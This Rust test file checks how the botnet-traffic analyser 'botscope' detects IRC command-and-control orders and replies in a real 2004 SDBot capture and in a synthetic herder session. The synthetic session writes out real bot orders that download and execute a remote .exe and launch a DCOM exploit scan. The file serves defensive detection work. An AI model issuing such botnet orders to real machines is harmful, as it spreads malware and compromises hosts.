//! Orders seen from the bot's side and from the herder's side (issue 15,
//! class 5), on captures botscope did not make (`tests/corpus`, copied
//! from the upstream repositories named in each `SOURCE.md`) and on a
//! herder-side session rebuilt from published lines.

use botscope_behavior::analysis::{Options, Report};
use botscope_behavior::orders::OrderKind;
use botscope_behavior::{pipeline, Limits};
use botscope_capture::EngineConfig;
use botscope_synth::pcap::PcapFile;
use botscope_synth::tcp::Tcp;
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};

fn corpus(rel: &str) -> PathBuf {
    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/corpus")
        .join(rel);
    assert!(p.exists(), "corpus file missing: {}", p.display());
    p
}

fn analyze(path: &Path) -> Report {
    pipeline::run(
        &[path.to_path_buf()],
        &EngineConfig::default(),
        Limits::default(),
        &Options::default(),
    )
    .expect("capture reads")
    .0
}

/// The 2004 bot capture (Suricata-verify `tests/irc/input.pcap`): every
/// order is received, the bot is `damn-0262937047`, and each topic's
/// herder is the setter the server's `333` names (`AL7uB` for the three
/// download channels, `gh` for `#sl0w3r`, as tshark shows).
#[test]
fn real_bot_capture_orders_are_received_with_their_setters() {
    let r = analyze(&corpus("suricata-verify/tests/irc/input.pcap"));
    assert_eq!(r.sessions.len(), 1);
    assert_eq!(r.sessions[0].role, "bot");
    let got: Vec<(&str, &str, Option<&str>, Option<&str>)> = r
        .orders
        .iter()
        .map(|o| {
            (
                o.direction.as_str(),
                o.order.command.as_str(),
                o.target.as_deref(),
                o.sender.as_deref(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            ("received", "download", Some("#s01"), Some("AL7uB")),
            ("received", "download", Some("#s02"), Some("AL7uB")),
            ("received", "download", Some("#s03"), Some("AL7uB")),
            ("received", "advscan", Some("#sl0w3r"), Some("gh")),
        ]
    );
    for o in &r.orders {
        assert_eq!(o.bot_nick.as_deref(), Some("damn-0262937047"));
        assert_eq!(o.bot.to_string(), "172.16.1.10");
    }
    assert!(!r.replies.is_empty());
    for x in &r.replies {
        assert_eq!(x.from.as_deref(), Some("damn-0262937047"));
        let o = x.order.expect("every [DOWNLOAD] reply has its order");
        assert_eq!(r.orders[o].order.command, "download");
    }
    assert_eq!(r.table9.len(), 1);
}

/// Zeek's IRC captures are people chatting (`PRIVMSG #brotest test`,
/// DCC offers): no order either way, no reply.
#[test]
fn zeek_irc_chat_holds_no_order_either_way() {
    for (rel, nick) in [
        ("zeek/testing/btest/Traces/irc-basic.pcap", "brotest"),
        ("zeek/testing/btest/Traces/irc-whitespace.pcap", "brotest"),
        ("zeek/testing/btest/Traces/irc-dcc-send.pcapng", "tim2"),
    ] {
        let r = analyze(&corpus(rel));
        assert!(
            r.sessions.iter().any(|s| s.nick.as_deref() == Some(nick)),
            "{rel}: {:?}",
            r.sessions.iter().map(|s| &s.nick).collect::<Vec<_>>()
        );
        assert!(r.orders.is_empty(), "{rel}: {:?}", r.orders);
        assert!(r.replies.is_empty(), "{rel}: {:?}", r.replies);
        assert!(r.sessions.iter().all(|s| s.role == "bot"));
    }
}

const BOT: &str = "damn-0262937047";
/// The bot's prefix as the server relays its lines (the real capture's
/// `JOIN` lines).
const BOT_PREFIX: &str = "damn-0262937047!ghmfeirsfn@h-68-164-92-148.snvacaid.dynamic.covad.net";

/// A herder-side session: the herder's client (`AL7uB`, the topic setter
/// of the real capture) orders the real capture's bot by PRIVMSG, as the
/// SDBot 0.5b session of issue 15 did (`.login`, `.status`, `.sysinfo`,
/// `.netinfo`, `.download URL FILE 0`, `.execute`), and orders the channel
/// with the real capture's `.advscan` topic. No public herder-side capture
/// exists; the lines are published ones:
/// - orders, URL, file, bot prefix, channel: Suricata-verify
///   `tests/irc/input.pcap` (OISF/suricata-verify, MIT);
/// - `[DOWNLOAD]: ...` replies: the same capture's bot lines;
/// - the untagged `cpu: ... ram: ... os: ... uptime: ...` and `connection
///   type: ... local IP address: ... connected from: ...` replies: the
///   SDBot reply formats FortiGuard publishes (W32/SDBot.fam).
fn herder_session(path: &Path) {
    let mut f = PcapFile::create(path).unwrap();
    let (herder, server) = (Ipv4Addr::new(127, 0, 0, 2), Ipv4Addr::new(127, 0, 0, 3));
    let mut c = Tcp::new(herder, 40001, server, 6667, 1_103_771_000_000_000, 7);
    c.handshake(&mut f);
    let client = |c: &mut Tcp, f: &mut PcapFile, line: &str| {
        c.t += 2_000_000;
        c.c_send(f, format!("{line}\r\n").as_bytes());
    };
    client(&mut c, &mut f, "NICK AL7uB");
    client(&mut c, &mut f, "USER al7ub 0 0 :AL7uB");
    c.t += 1_000_000;
    c.s_send(
        &mut f,
        b":hunt3d.devilz.net 001 AL7uB :Welcome to the devilz IRC Network AL7uB\r\n",
    );
    client(&mut c, &mut f, "JOIN #sl0w3r l03dx");
    let relay = |c: &mut Tcp, f: &mut PcapFile, from: &str, to: &str, text: &str| {
        c.t += 3_000_000;
        c.s_send(f, format!(":{from} PRIVMSG {to} :{text}\r\n").as_bytes());
    };
    // Someone else talking in the channel is neither an order nor a reply.
    relay(
        &mut c,
        &mut f,
        "Under0!u0@host.example",
        "#sl0w3r",
        "hi all",
    );
    let orders = [
        ".login h3rd3r",
        ".status",
        ".sysinfo",
        ".netinfo",
        ".download http://www.wanees.net/bbnz.exe bbnz.exe 0",
        ".execute 1 bbnz.exe",
    ];
    let replies: [&[&str]; 6] = [
        &["password accepted."],
        &["sdbot v0.5b ready. Up 0d 2h 14m."],
        &["cpu: 1694 MHz. ram: 523760 KB total, 301228 KB free. os: Windows XP (5.1, build 2600). uptime: 0d 2h 14m"],
        &["connection type: dial-up (MSN). local IP address: 172.16.1.10. connected from: h-68-164-92-148.snvacaid.dynamic.covad.net"],
        &["[DOWNLOAD]: Downloading URL: http://www.wanees.net/bbnz.exe to: bbnz.exe."],
        &[],
    ];
    for (o, rs) in orders.iter().zip(replies) {
        client(&mut c, &mut f, &format!("PRIVMSG {BOT} :{o}"));
        for r in rs {
            relay(&mut c, &mut f, BOT_PREFIX, "AL7uB", r);
        }
    }
    // The download finishes after the execute order went out.
    relay(
        &mut c,
        &mut f,
        BOT_PREFIX,
        "AL7uB",
        "[DOWNLOAD]: Downloaded 28.6 KB to bbnz.exe @ 28.6 KB/sec.",
    );
    client(
        &mut c,
        &mut f,
        "PRIVMSG #sl0w3r :.advscan dcom135 200 3 0 -r -s",
    );
    c.close(&mut f, true);
    f.finish().unwrap();
}

#[test]
fn herder_side_session_orders_bot_identity_and_replies() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("herder.pcap");
    herder_session(&p);
    let r = analyze(&p);
    assert_eq!(r.sessions.len(), 1);
    let s = &r.sessions[0];
    assert_eq!(
        (s.nick.as_deref(), s.role.as_str()),
        (Some("AL7uB"), "herder")
    );
    // A herder's session is not a bot's: not in Table 9 nor the rates.
    assert!(r.table9.is_empty());
    assert!(r.sequences.is_empty());
    let cmds: Vec<&str> = r.orders.iter().map(|o| o.order.command.as_str()).collect();
    assert_eq!(
        cmds,
        ["login", "status", "sysinfo", "netinfo", "download", "execute", "advscan"]
    );
    assert_eq!(r.unknown_orders, 0);
    for o in &r.orders {
        assert_eq!(o.direction, "sent");
        assert_eq!(o.sender.as_deref(), Some("AL7uB"));
        assert_eq!(o.via, "privmsg");
        // The prefix names a host, not an address.
        assert!(o.bot.is_unspecified());
    }
    for o in &r.orders[..6] {
        assert_eq!(o.target.as_deref(), Some(BOT));
        assert_eq!(o.bot_nick.as_deref(), Some(BOT));
        assert_eq!(
            o.bot_host.as_deref(),
            Some("ghmfeirsfn@h-68-164-92-148.snvacaid.dynamic.covad.net")
        );
    }
    let adv = &r.orders[6];
    assert_eq!(
        (adv.target.as_deref(), adv.bot_nick.as_deref()),
        (Some("#sl0w3r"), None)
    );
    assert!(matches!(adv.order.kind, OrderKind::Scan { .. }));
    assert!(matches!(
        r.orders[4].order.kind,
        OrderKind::Download { update: false, .. }
    ));
    // Replies: from the bot's prefix, each linked to the order it answers
    // (the late "Downloaded" to the download, not to the later execute).
    let linked: Vec<(Option<usize>, &str)> = r
        .replies
        .iter()
        .map(|x| (x.order, x.reply.tag.as_str()))
        .collect();
    assert_eq!(
        linked,
        vec![
            (Some(0), "LOGIN"),
            (Some(1), "STATUS"),
            (Some(2), "SYSINFO"),
            (Some(3), "NETINFO"),
            (Some(4), "DOWNLOAD"),
            (Some(4), "DOWNLOAD"),
        ]
    );
    for x in &r.replies {
        assert_eq!(x.from.as_deref(), Some(BOT_PREFIX));
    }
    assert_eq!(r.orders[4].replies, vec![4, 5]);
    assert!(r.orders[5].replies.is_empty());
    // Herder-side download orders are not the bot's update requests.
    assert!(r.updates.is_empty());
}
